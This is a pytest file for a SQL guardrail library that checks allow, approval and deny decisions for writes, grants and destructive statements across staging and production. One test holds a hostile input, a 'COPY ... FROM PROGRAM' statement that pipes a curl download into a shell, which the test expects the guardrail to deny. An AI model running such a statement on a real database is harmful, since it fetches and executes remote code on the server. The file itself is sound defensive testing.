"""Guardrails on real SQL: `lineage_guard.sql.analyze` feeds `check_write`, and the planner applies it."""

from __future__ import annotations

import pytest

from lineage_guard.identity import Identity
from lineage_guard.planner import plan
from lineage_guard.policy import parse_policy
from lineage_guard.policy.guardrails import WritesPolicy, check_write
from lineage_guard.sql import analyze
from lineage_guard.sql.catalog import Catalog
from lineage_guard.sql.model import TableRef

DDL = """
CREATE TABLE public.orders (id int PRIMARY KEY, customer_id int, total numeric, status text);
CREATE TABLE public.customers (id int PRIMARY KEY, email text, tier text);
CREATE TABLE etl.stage (customer_id int, email text);
"""
ETL = Identity("svc-etl", "service", frozenset({"data-eng"}))
WRITES = WritesPolicy.model_validate({
    "allowed_groups": ["data-eng"],
    "relax": [{"allow": ["truncate"], "environments": ["staging"]},
              {"allow": ["delete_without_where"], "environments": ["staging"], "approval": True}],
    "approvals": [{"environments": ["production"], "tables": ["public.orders"]},
                  {"environments": ["production"], "sensitive": True}],
})
SENSITIVE = {TableRef("public", "customers")}


@pytest.fixture(scope="module")
def catalog():
    return Catalog.from_ddl_text(DDL)


@pytest.mark.parametrize("sql, environment, action, words", [
    ("INSERT INTO etl.stage (customer_id) VALUES (1)", "production", "allow", None),
    ("UPDATE public.orders SET status = 'x' WHERE id = 1", "staging", "allow", None),
    ("UPDATE public.orders SET status = 'x' WHERE id = 1", "production", "needs_approval",
     "writes touching public.orders in environment 'production' need an approval"),
    ("INSERT INTO etl.stage SELECT id, email FROM public.customers", "production", "needs_approval",
     "sensitive table(s) public.customers"),
    ("DELETE FROM public.orders", "production", "deny", "DELETE without WHERE on public.orders is denied"),
    ("DELETE FROM public.orders WHERE 1 = 1", "production", "deny", "DELETE without WHERE on public.orders"),
    ("DELETE FROM public.orders", "staging", "needs_approval", "allowed only with an approval"),
    ("UPDATE public.customers SET tier = 'gold'", "staging", "deny", "UPDATE without WHERE on public.customers"),
    ("TRUNCATE public.orders", "production", "deny", "TRUNCATE on public.orders is denied by default"),
    ("TRUNCATE public.orders", "staging", "allow", None),
    ("DROP TABLE public.orders", "staging", "deny", "DROP on public.orders"),
    ("ALTER TABLE public.orders ADD COLUMN note text", "staging", "deny", "ALTER on public.orders"),
    ("GRANT SELECT ON public.customers TO analyst", "staging", "deny", "GRANT on public.customers"),
    ("REVOKE SELECT ON public.customers FROM analyst", "staging", "deny", "REVOKE on public.customers"),
])
def test_analyzed_statements(catalog, sql, environment, action, words):
    analysis = analyze(sql, catalog)
    assert not analysis.is_read and not analysis.violations, analysis.violations
    result = check_write(analysis, WRITES, identity=ETL, environment=environment, sensitive_tables=SENSITIVE)
    assert result.action == action, result.reasons
    assert (words is None and result.reasons == []) or any(words in r for r in result.reasons)


def test_copy_program_is_refused_before_and_by_the_guardrails(catalog):
    analysis = analyze("COPY public.orders FROM PROGRAM 'curl http://x | sh'", catalog)
    assert "copy_program" in analysis.flags and analysis.violations
    result = check_write(analysis, WRITES, identity=ETL, environment="staging", sensitive_tables=SENSITIVE)
    assert result.action == "deny" and any("COPY ... PROGRAM" in r for r in result.reasons)


POLICY = """
purposes: [etl]
groups: [data-eng]
identities:
  svc-etl: {kind: service, groups: [data-eng]}
classifications:
  public.customers.email: email
writes:
  allowed_groups: [data-eng]
  relax:
    - {allow: [truncate], environments: [staging]}
  approvals:
    - {environments: [production], sensitive: true}
approvals:
  ttl_seconds: 3600
"""


@pytest.mark.parametrize("sql, environment, action", [
    ("TRUNCATE public.orders", "staging", "allow"),
    ("TRUNCATE public.orders", "production", "deny"),
    ("UPDATE public.customers SET tier = 'gold' WHERE id = 7", "production", "needs_approval"),
    ("UPDATE public.customers SET tier = 'gold' WHERE id = 7", "staging", "allow"),
])
def test_the_planner_applies_the_policy_writes_section(catalog, sql, environment, action):
    policy = parse_policy(POLICY)
    decision = plan(sql, catalog=catalog, policy=policy, identity=Identity("svc-etl"), purpose="etl",
                    environment=environment)
    assert decision.action == action, decision.reasons
    undeclared = plan(sql, catalog=catalog, policy=policy, identity=Identity("mallory"), purpose="etl",
                      environment=environment)
    assert undeclared.action == "deny"
